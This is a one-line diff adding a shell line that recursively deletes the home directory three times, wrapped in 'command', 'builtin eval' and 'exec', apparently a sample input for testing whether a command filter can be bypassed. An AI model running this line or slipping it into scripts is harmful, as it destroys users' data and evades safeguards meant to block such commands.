@@ -1,0 +1,1 @@
+command rm -rf ~; builtin eval 'rm -rf ~'; exec rm -rf ~
